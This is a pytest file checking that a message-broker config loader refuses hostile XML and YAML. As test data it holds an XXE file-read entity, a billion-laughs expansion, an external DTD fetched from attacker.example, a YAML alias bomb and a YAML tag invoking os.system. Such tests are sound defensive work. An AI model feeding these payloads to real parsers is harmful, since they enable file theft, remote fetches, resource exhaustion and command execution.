"""Hostile documents: XXE, entity expansion and YAML alias bombs are refused, not parsed."""

from __future__ import annotations

from pathlib import Path

import pytest
from relaymq.config import ConfigError, load_config, load_config_text


def test_xxe_external_entity_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    doc = tmp_path / "activemq.xml"
    doc.write_text(f"""<?xml version="1.0"?>
<!DOCTYPE broker [
  <!ENTITY leak SYSTEM "file://{secret}">
]>
<broker brokerName="&leak;"/>
""")
    with pytest.raises(ConfigError) as info:
        load_config(doc)
    message = str(info.value)
    assert "external entity" in message and "refuses XML entity declarations" in message
    assert f"{doc}:" in message
    assert "TOP-SECRET" not in message


def test_billion_laughs_is_refused() -> None:
    doc = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<broker brokerName="&lol3;"/>"""
    with pytest.raises(ConfigError, match="refuses XML entity declarations"):
        load_config_text(doc, "xml")


def test_external_parameter_entity_is_refused() -> None:
    doc = """<?xml version="1.0"?>
<!DOCTYPE broker [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<broker/>"""
    with pytest.raises(ConfigError, match="refuses XML entity declarations"):
        load_config_text(doc, "xml")


def test_yaml_alias_bomb_is_refused() -> None:
    doc = """broker:
  a: &a [{queue: {physicalName: x}}, {queue: {physicalName: x}}, {queue: {physicalName: x}}]
  b: &b [{d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}, {d: *a}]
  c: &c [{d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}, {d: *b}]
  e: &e [{d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}, {d: *c}]
  f: &f [{d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}, {d: *e}]
  g: &g [{d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}, {d: *f}]
"""
    with pytest.raises(ConfigError, match="expands to too many elements"):
        load_config_text(doc, "yaml")


def test_yaml_python_tags_are_refused() -> None:
    doc = "broker:\n  brokerName: !!python/object/apply:os.system ['echo pwned']\n"
    with pytest.raises(ConfigError, match=r"<text>:2: the YAML tag tag:yaml.org,2002:python/object"):
        load_config_text(doc, "yaml")
